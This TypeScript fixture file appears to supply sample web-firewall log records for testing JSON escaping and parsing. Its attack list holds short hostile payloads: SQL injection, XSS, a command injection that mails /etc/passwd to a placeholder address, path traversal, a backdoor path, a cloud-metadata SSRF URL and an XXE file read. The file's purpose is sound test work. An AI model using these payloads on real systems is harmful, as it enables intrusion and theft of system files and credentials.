/**
 * What attackers and visitors send. Texts are JSON string contents as the vendor writes them, escapes included (hence `String.raw`): quotes,
 * backslashes, line breaks, surrogate pairs, and characters that stand for themselves.
 */
export interface Attack {
  readonly type: string;
  readonly location: string;
  readonly value: string;
  readonly detector: string;
  readonly blocked: boolean;
}

const text = String.raw;

export const attacks: readonly Attack[] = [
  attack('SQLI', 'QUERYSTRING', text`id=1' OR \"a\"=\"a`, true),
  attack('SQLI', 'POST', text`1;\tDROP TABLE users;\n-- x`, true),
  attack('XSS', 'QUERYSTRING', text`\u003cscript\u003ealert(\"\\x41\")\u003c/script\u003e`, true),
  attack('XSS', 'HEADER', text`<img src=x onerror=alert(1)>\/`, false),
  attack('CMDEXE', 'POST', text`; cat \/etc\/passwd | mail me@example.com\r\n`, true),
  attack('TRAVERSAL', 'PATH', text`..\\..\\windows\\win.ini`, true),
  attack('BACKDOOR', 'PATH', text`/c99.php?\u0000`, false),
  attack('USERAGENT', 'USERAGENT', text`sqlmap\/1.8 ],\"data\":[{\"id\":\"x\"}],`, false),
  attack('AWS-SSRF', 'QUERYSTRING', text`http://169.254.169.254/latest/meta-data/\\`, true),
  attack('XXE', 'POST', text`<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>`, true),
  attack('HTTP404', '', '', false),
  attack('TORNODE', '', '203.0.113.77', false),
  attack('NOUA', 'USERAGENT', '', false),
  attack('site.geburtstag', 'QUERYSTRING', text`name=Müller, 東京, ☃ \ud83d\ude00 😀 and ` + '\u2028', false),
];

export const clients: readonly string[] = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  text`curl\/8.5.0`,
  text`Mozilla/5.0 \"zgrab\"/0.x`,
  'Агент/1.0',
  '',
];

export const paths: readonly string[] = [
  '/',
  '/login',
  '/api/v1/orders',
  text`\/wp-admin\/setup.php`,
  '/straße/ñ',
  text`/a\u002fb`,
  '/search',
];

export const methods: readonly string[] = ['GET', 'GET', 'GET', 'POST', 'POST', 'PUT', 'HEAD', 'DELETE'];
export const countries: readonly string[] = ['US', 'DE', 'BR', 'JP', 'IN', 'ZZ', ''];
export const hosts: readonly string[] = ['web-01', 'web-02', 'web-03', 'edge-äö'];

function attack(type: string, location: string, value: string, blocked: boolean): Attack {
  return { type, location, value, detector: type === 'SQLI' ? 'LIBINJECTION' : type, blocked };
}
